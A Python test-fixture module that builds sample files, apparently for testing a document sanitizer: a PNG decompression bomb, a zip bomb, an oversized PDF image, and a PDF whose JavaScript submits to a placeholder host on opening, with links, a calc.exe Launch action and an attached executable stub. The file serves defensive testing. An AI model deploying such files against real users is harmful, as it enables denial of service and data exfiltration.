"""Files for the tests, good and bad, each made here: none is anybody's."""

import io
import zipfile
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

PLACE = "44.4268 N"
"""What a camera may write into a photograph."""
AUTHOR = "Mihaela Dobre"
HOME = "https://collector.example/opened"


def photograph(kind: str = "JPEG", size: tuple[int, int] = (60, 40)) -> bytes:
    """A picture, left half red and right half blue, that tells where it was taken, and lies on its side."""
    picture = Image.new("RGB", size, "red")
    picture.paste("blue", (size[0] // 2, 0, *size))
    exif = Image.Exif()
    exif[0x010E], exif[0x0112] = PLACE, 6
    exif.get_ifd(0x8825)[2] = (44.0, 25.0, 36.0)
    out = io.BytesIO()
    more = {"comment": PLACE.encode()} if kind == "JPEG" else {}
    picture.save(out, kind, exif=exif, **more)
    return out.getvalue()


def huge_picture(wide: int = 60_000, high: int = 60_000) -> bytes:
    """A PNG of a few kilobytes that claims billions of points."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = wide.to_bytes(4, "big") + high.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    rows = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@cache
def zip_bomb() -> bytes:
    """An archive of a few kilobytes with 50 MB of noughts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("noughts", bytes(50_000_000))
    return out.getvalue()


def _saved(pdf: pikepdf.Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def paper(pages: int = 1, words: str = "A quiet letter", **how: object) -> bytes:
    """A PDF with so many pages, each with a line of text and a black square."""
    return _saved(_paper(pages, words), **how)


def _paper(pages: int = 1, words: str = "A quiet letter") -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for _number in range(pages):
        page = pdf.add_blank_page(page_size=(200, 300))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        drawn = f"BT /F1 12 Tf 20 250 Td ({words}) Tj ET 0 0 0 rg 20 20 100 100 re f"
        page.Contents = Stream(pdf, drawn.encode())
    return pdf


def calling_paper() -> bytes:
    """A PDF that acts in every way that it can: it opens, calls home, runs, carries files, and tells who wrote it."""
    pdf = _paper()
    page, root = pdf.pages[0], pdf.Root
    script = Dictionary(S=Name.JavaScript, JS=String(f"this.submitForm('{HOME}')"))
    link = Dictionary(S=Name.URI, URI=String(HOME))
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    pdf.attachments["run.exe"] = b"MZ" + HOME.encode()
    page.AA = Dictionary(O=link)
    annotations = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 200, 300]), A=link),
        Dictionary(
            Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 9, 9]),
            A=Dictionary(S=Name.Launch, F=String("calc.exe")),
        ),
    ]  # fmt: skip
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(one) for one in annotations]))
    away = Stream(pdf, b"")
    away.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(HOME))
    away.Type, away.Subtype, away.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    away.A, away.PieceInfo = link, Dictionary(Program=Dictionary(Private=String(AUTHOR)))
    photo = Stream(pdf, photograph())
    photo.Type, photo.Subtype, photo.Width, photo.Height = Name.XObject, Name.Image, 60, 40
    photo.ColorSpace, photo.BitsPerComponent, photo.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    photo.Metadata = Stream(pdf, f"<x>{AUTHOR}</x>".encode())
    page.Resources.XObject = Dictionary(Away=away, Photo=photo)
    page.contents_add(b"q 60 0 0 40 120 200 cm /Photo Do Q /Away Do")
    page.PieceInfo = Dictionary(Program=Dictionary(Private=String(AUTHOR)))
    pdf.docinfo["/Author"] = AUTHOR
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [AUTHOR]
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def filled_form() -> bytes:
    """A PDF with a field that somebody has filled in: a black square stands for what was written."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 300))
    looks = Stream(pdf, b"0 0 0 rg 0 0 100 100 re f")
    looks.Type, looks.Subtype, looks.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 100])
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("who"), V=String("x"),
            Rect=Array([50, 50, 150, 150]), AP=Dictionary(N=looks), F=4,
        )
    )  # fmt: skip
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _saved(pdf)


def swollen_paper() -> bytes:
    """A PDF of a few kilobytes whose picture claims two thousand million points."""
    pdf = _paper()
    page = pdf.pages[0]
    photo = Stream(pdf, zlib.compress(bytes(300_000_000)))
    photo.Type, photo.Subtype, photo.Width, photo.Height = Name.XObject, Name.Image, 40_000, 40_000
    photo.ColorSpace, photo.BitsPerComponent, photo.Filter = Name.DeviceRGB, 8, Name.FlateDecode
    page.Resources.XObject = Dictionary(Photo=photo)
    page.contents_add(b"q 60 0 0 40 120 200 cm /Photo Do Q")
    return _saved(pdf)


def locked_paper(opens_with: str = "river") -> bytes:
    """A PDF that opens with a password; with an empty one, that anybody opens and nobody may print."""
    return paper(encryption=pikepdf.Encryption(user=opens_with, owner="other"))
